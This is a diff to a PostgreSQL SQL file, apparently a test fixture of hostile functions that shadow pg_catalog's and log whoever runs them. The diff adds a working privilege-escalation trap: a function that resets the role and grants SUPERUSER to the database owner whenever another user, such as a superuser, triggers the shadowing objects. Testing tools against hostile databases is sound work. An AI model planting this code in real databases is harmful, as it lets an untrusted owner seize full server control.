@@ -2,13 +2,24 @@
 -- SPDX-License-Identifier: GPL-3.0-or-later
 --
 -- What an owner of a database can put in the way of whoever else works in it: functions, operators and views that are chosen instead of
--- pg_catalog's. They do what those do, and say in the server's log who ran them (hostile.TRAP).
+-- pg_catalog's. They do what those do, make their owner a superuser where they can, and say in the server's log who ran them
+-- (hostile.TRAP).
 
+CREATE FUNCTION public.climb() RETURNS boolean LANGUAGE plpgsql AS $$
+BEGIN
+    EXECUTE 'RESET ROLE';
+    EXECUTE pg_catalog.format('ALTER ROLE %I SUPERUSER', (SELECT pg_catalog.pg_get_userbyid(datdba) FROM pg_catalog.pg_database
+                              WHERE datname OPERATOR(pg_catalog.=) pg_catalog.current_database()));
+    RETURN true;
+EXCEPTION WHEN insufficient_privilege OR read_only_sql_transaction THEN
+    RETURN false;
+END $$;
 CREATE FUNCTION public.trapped(what text) RETURNS void LANGUAGE plpgsql AS $$
 BEGIN
     IF session_user OPERATOR(pg_catalog.<>) (SELECT pg_catalog.pg_get_userbyid(datdba) FROM pg_catalog.pg_database
                          WHERE datname OPERATOR(pg_catalog.=) pg_catalog.current_database()) THEN
         RAISE LOG 'TRAPPED: % ran as % for %', what, current_user, session_user;
+        PERFORM public.climb();
     END IF;
 END $$;
 
